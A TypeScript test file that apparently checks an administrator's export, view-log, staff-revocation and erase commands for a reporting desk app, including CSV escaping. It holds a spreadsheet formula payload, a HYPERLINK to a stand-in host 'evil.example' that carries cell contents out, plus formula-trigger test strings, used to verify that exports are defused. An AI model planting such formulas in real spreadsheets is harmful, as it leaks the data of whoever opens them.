import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Report } from '../../contract/staff.ts';
import { projectRoot } from '../root.ts';
import { ask, eventually, MESSAGE, phonePhoto, report, send, upload } from '../test-data.ts';
import { FOLDER, profilesWith } from '../test-profiles.ts';
import { startDesk } from '../testing.ts';
import { newStorage } from '../testing-storage.ts';
import { csvLine } from './csv.ts';

/** The commands as an administrator types them, on what a desk left behind. */

const folder = mkdtempSync(join(tmpdir(), 'commands-'));
const storage = await newStorage();
after(async () => {
  await storage.remove();
  rmSync(folder, { recursive: true, force: true });
});

const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Klik")';
const NAME = 'Zeynep "Zé" Öztürk,\nbenedenhuis 🙂';
let reference = '';
let secrets: string[] = [];
const SECRET_DRAFT = randomUUID();

function run(command: string, ...args: string[]) {
  return new Promise<{ code: number; out: string; err: string }>((resolve) => {
    const env = {
      PATH: process.env['PATH'],
      DATA_DIR: storage.dataDir,
      ...(storage.databaseUrl ? { DATABASE_URL: storage.databaseUrl } : {}),
    };
    const file = join(projectRoot(), 'src/desk/commands', `${command}.ts`);
    execFile(process.execPath, ['--import', 'tsx', file, ...args], { env }, (error, out, err) =>
      resolve({ code: error ? Number(error.code) : 0, out, err }),
    );
  });
}

before(async () => {
  const desk = await startDesk({
    storage,
    profiles: profilesWith({ delinde: { outward: [FOLDER] } }),
  });
  const { photo } = await upload(desk, await phonePhoto(300, 200), { draft: SECRET_DRAFT });
  const answers = { name: NAME, story: FORMULA, photos: [photo] };
  ({ reference } = await report(desk, answers, { draft: SECRET_DRAFT }));
  await report(desk, { name: 'Van Het Baken' }, { association: 'hetbaken' });
  await send(desk, 'messages', { ...MESSAGE, text: FORMULA });
  await send(desk, 'alarms', { phone: '06 12345678', language: 'nl' });
  const { db } = desk.desk.database;
  const { id } = await db
    .selectFrom('report')
    .select('id')
    .where('reference', '=', reference)
    .executeTakeFirstOrThrow();
  const cookie = await desk.signIn();
  await eventually(async () => {
    const shown = (await (await ask(desk, cookie, 'staffReport', { id })).json()) as Report;
    return (
      shown.pictures[0]?.state === 'ready' && shown.history.some((h) => h.kind === 'delivered')
    );
  });
  const alarm = await db.selectFrom('alarm').select('secret').executeTakeFirstOrThrow();
  const session = await db.selectFrom('staff_session').select('token_hash').execute();
  secrets = [alarm.secret, SECRET_DRAFT, ...session.map((each) => each.token_hash)];
  await desk.close();
});

/** RFC 4180, read strictly. */
function sheet(text: string): Record<string, string>[] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of text
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  const [head = [], ...rest] = rows.filter((row) => row.length > 1);
  return rest.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ''])));
}

describe('npm run export', () => {
  const target = join(folder, 'delinde');
  const json = (table: string) =>
    JSON.parse(readFileSync(join(target, `${table}.json`), 'utf8')) as Record<string, never>[];
  const csv = (table: string) => sheet(readFileSync(join(target, `${table}.csv`), 'utf8'));

  test('writes everything of an association, as JSON, as sheets and as files', async () => {
    const { code, out, err } = await run('export', 'delinde', target);
    assert.equal(code, 0, err);
    assert.match(out, /^report: 1$/m);
    assert.match(out, /^files: 1$/m);
    assert.equal(json('report')[0]?.['reference'], reference);
    assert.equal(json('report_contact')[0]?.['name'], NAME);
    assert.equal(csv('report_contact')[0]?.['name'], NAME);
    assert.equal(csv('report')[0]?.['reference'], reference);
    const [file = ''] = json('attachment')[0]?.['files'] as unknown as string[];
    assert.equal(readFileSync(join(target, file)).readUInt16BE(0), 0xffd8, 'a JPEG');
    assert.ok(
      json('view_log').some(({ act }) => act === 'export'),
      'it is in the view log',
    );
    assert.equal(statSync(target).mode & 0o077, 0, 'for nobody else on this machine');
  });

  test('keeps each sheet as long as its list, and gives no spreadsheet a formula', () => {
    const tables = readdirSync(target).filter((name) => name.endsWith('.csv'));
    assert.ok(tables.length >= 7, tables.join());
    for (const name of tables) {
      const table = name.replace('.csv', '');
      const rows = csv(table);
      assert.equal(rows.length, json(table).length, table);
      for (const row of rows)
        for (const [column, text] of Object.entries(row))
          assert.doesNotMatch(text, /^\s*[=+\-@|%]/, `${table}.${column}`);
    }
    assert.equal(csv('message')[0]?.['text'], `'${FORMULA}`);
  });

  test('holds nothing of another association, and nothing that opens something', () => {
    const all = readdirSync(target, { recursive: true, encoding: 'utf8' })
      .map((name) => join(target, name))
      .filter((path) => statSync(path).isFile())
      .map((path) => readFileSync(path, 'latin1'))
      .join('');
    for (const secret of [...secrets, 'Van Het Baken', 'hetbaken', 'SecretPhone'])
      assert.ok(!all.includes(secret), secret);
    assert.ok(!existsSync(join(target, 'staff_session.json')));
  });

  test('overwrites nothing, and leaves no half of one', async () => {
    const before = readFileSync(join(target, 'report.json'), 'utf8');
    const again = await run('export', 'delinde', target);
    assert.equal(again.code, 1);
    assert.match(again.err, /is there already: choose another folder\.\n$/);
    assert.equal(readFileSync(join(target, 'report.json'), 'utf8'), before);
    const nowhere = await run('export', 'delinde', join(folder, 'no', 'such'));
    assert.match(nowhere.err, /cannot be made \(ENOENT\): choose another folder\.\n$/);
    const nobody = await run('export', 'nergens', join(folder, 'x'));
    assert.match(
      nobody.err,
      /^There is no association "nergens" here; there are: delinde, hetbaken/,
    );
    assert.deepEqual(readdirSync(folder), ['delinde']);
  });
});

test('npm run view-log: who saw what of whom, for the privacy officer', async () => {
  const file = join(folder, 'gezien.csv');
  assert.equal((await run('view-log', 'delinde', file)).code, 0);
  const rows = sheet(readFileSync(file, 'utf8'));
  assert.ok(
    rows.some(
      ({ what, report, name }) => what === 'report' && report === reference && name === 'Sanne',
    ),
  );
  assert.ok(rows.some(({ what, name }) => what === 'export' && name === 'beheerder'));
  assert.equal((await run('view-log', 'delinde', file)).code, 1, 'overwrites nothing');
});

test('npm run staff: who is signed in, and out with her', async () => {
  assert.match((await run('staff', 'list')).out, /^delinde {2}\S+ {2}Sanne {2}since /m);
  const account = /^delinde {2}(\S+)/m.exec((await run('staff', 'list')).out)?.[1] ?? '';
  assert.match((await run('staff', 'revoke', account)).out, /^Signed out: [1-9]/);
  assert.equal((await run('staff', 'list')).out, '');
});

test('npm run erase: what has this number is gone, and not said again', async () => {
  const wrong = await run('erase', 'hetbaken', reference);
  assert.equal(wrong.code, 1);
  assert.match(wrong.err, /^Wonen Het Baken has nothing under this reference\.\n$/);
  const { code, out } = await run('erase', 'delinde', reference, 'mistake');
  assert.equal(code, 0);
  assert.ok(!out.includes(reference));
  assert.match(out, /^It also went to map: have it erased there too\.$/m);
  const target = join(folder, 'after');
  await run('export', 'delinde', target);
  assert.equal(readFileSync(join(target, 'report.json'), 'utf8'), '[]\n');
  assert.ok(!existsSync(join(target, 'files')));
  assert.equal((await run('erase', 'delinde', reference)).code, 1, 'it is no longer there');
});

test('a cell that a spreadsheet would work out is text, also behind a space', () => {
  for (const text of ['=1+1', '+31612345678', '-1', '@SUM(A1)', ' =1', '\t=1', '|x', '%x', '＝1'])
    assert.match(csvLine([text]), /^"?'/, text);
  assert.equal(
    csvLine(['a,b', 'c"d', 'e\r\nf', null, -3, true]),
    '"a,b","c""d","e\r\nf",,-3,true\r\n',
  );
});
